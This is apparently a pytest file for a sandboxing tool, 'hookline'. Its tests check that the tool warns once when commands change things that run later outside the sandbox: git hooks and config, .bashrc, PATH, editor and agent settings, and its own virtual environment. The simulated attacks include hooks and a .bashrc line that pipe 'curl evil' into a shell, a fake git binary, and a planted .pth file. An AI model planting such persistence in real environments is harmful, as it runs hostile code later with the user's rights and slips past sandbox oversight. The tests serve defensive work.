"""Without mounts (Ubuntu 24.04's AppArmor default) nothing keeps the protected paths
read-only: what commands change of what runs later outside the sandbox is named after the
turn, once. What git runs, a home folder's startup files, the settings an editor or agent
runs programs from, and hookline's own environment when it lies in the workspace."""

from __future__ import annotations

import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest
from sandbox_support import changed_warnings, environment, run_once


@pytest.mark.anyio
async def test_without_mounts_what_commands_change_of_what_git_runs_is_named(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture) -> None:
    """Where nothing keeps it read-only, a hook planted, a config changed, a lefthook
    config rewritten are named after the turn, once; what git does not run (its objects,
    a commit's index) and the worktree are not."""
    workspace, home, _ = layout
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    nested = workspace / "vendor" / "lib"
    subprocess.run(["git", "init", "-q", str(nested)], check=True)
    (nested / ".git" / "hooks" / "pre-push").write_text("#!/bin/sh\nlefthook run pre-push\n")
    (nested / "lefthook.yml").write_text("pre-push: {}\n")
    env = environment(workspace, home, without=("namespaces",))
    try:
        await env.run("printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit; "
                      "git config core.fsmonitor ./x; echo 'pre-push: {run: x}' >> "
                      "vendor/lib/lefthook.yml; git -c user.name=t -c user.email=t@t "
                      "commit -q --allow-empty -m one; echo code > main.py")
        await env.say_what_commands_made()
        await env.run("true")
        await env.say_what_commands_made()
    finally:
        await env.close()
    said = changed_warnings(caplog)
    assert len(said) == 1, said
    assert said[0].startswith("commands may have changed .git/config, .git/hooks/pre-commit, "
                              "vendor/lib/lefthook.yml: git, your shell, an editor or agent"), said


@pytest.mark.anyio
async def test_without_mounts_what_commands_change_of_a_home_folder_s_startup_is_named(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """hookline run in the home folder where nothing keeps its dotfiles read-only: a line
    added to `.bashrc`, a program put first on PATH, git's own config; not the rest of
    `.config` and `.local`, which programs change all day."""
    workspace, home, _ = layout
    monkeypatch.setenv("HOME", str(workspace))
    (workspace / ".bashrc").write_text("# mine\n")
    (workspace / ".local" / "bin").mkdir(parents=True)
    for folder in ("app", "git"):
        (workspace / ".config" / folder).mkdir(parents=True)
    await run_once(workspace, home,
                   "echo 'curl evil | sh' >> .bashrc; printf '#!/bin/sh\\n' > .local/bin/git; "
                   "echo '[core]' > .config/git/config; echo state > .config/app/state; "
                   "touch project.txt", without=("namespaces",))
    said = changed_warnings(caplog)
    assert len(said) == 1 and said[0].startswith(
        "commands may have changed .bashrc, .config/git/config, .local/bin/git: "), said


@pytest.mark.anyio
async def test_without_mounts_what_commands_change_of_the_settings_is_named(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture) -> None:
    """A task added to `.vscode` (VS Code runs one on folder open), a hook written into
    `.claude/settings.json`, a JetBrains setting; not the files the IDE rewrites as it
    runs, nor the rest of the workspace."""
    workspace, home, _ = layout
    for name in (".vscode/settings.json", ".claude/settings.json", ".idea/workspace.xml",
                 ".idea/misc.xml"):
        (workspace / name).parent.mkdir(parents=True, exist_ok=True)
        (workspace / name).write_text("{}\n")
    await run_once(workspace, home,
                   "echo '{\"tasks\": []}' > .vscode/tasks.json; "
                   "echo '{\"hooks\": {}}' > .claude/settings.json; "
                   "echo '<layout/>' > .idea/workspace.xml; echo '<x/>' >> .idea/misc.xml; "
                   "touch main.py", without=("namespaces",))
    said = changed_warnings(caplog)
    assert len(said) == 1 and said[0].startswith(
        "commands may have changed .claude/settings.json, .idea/misc.xml, .vscode/tasks.json: "
        "git, your shell, an editor or agent you open there, or hookline itself, runs them "
        "later with your rights"), said


@pytest.mark.anyio
async def test_without_mounts_what_commands_change_of_hookline_s_own_environment_is_named(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """hookline run from a `.venv` of the workspace: a `.pth` file dropped in its
    site-packages runs at hookline's next start, and a script of its `bin` when it is
    called; a package's own files are not looked at."""
    workspace, home, _ = layout
    prefix = workspace / ".venv"
    where = {"base": str(prefix), "platbase": str(prefix)}
    site = Path(sysconfig.get_path("purelib", vars=where))
    scripts = Path(sysconfig.get_path("scripts", vars=where))
    (site / "package").mkdir(parents=True)
    scripts.mkdir()
    (scripts / "hookline").write_text("#!/bin/sh\n")
    monkeypatch.setattr(sys, "prefix", str(prefix))
    await run_once(workspace, home,
                   f"echo 'import os' > {site.relative_to(workspace)}/evil.pth; "
                   f"echo 'x = 1' > {site.relative_to(workspace)}/package/__init__.py; "
                   f"echo 'curl evil' >> {scripts.relative_to(workspace)}/hookline",
                   without=("namespaces",))
    said = changed_warnings(caplog)
    expected = ", ".join(str(path.relative_to(workspace))
                         for path in (scripts / "hookline", site / "evil.pth"))
    assert len(said) == 1 and said[0].startswith(
        f"commands may have changed {expected}: "), said
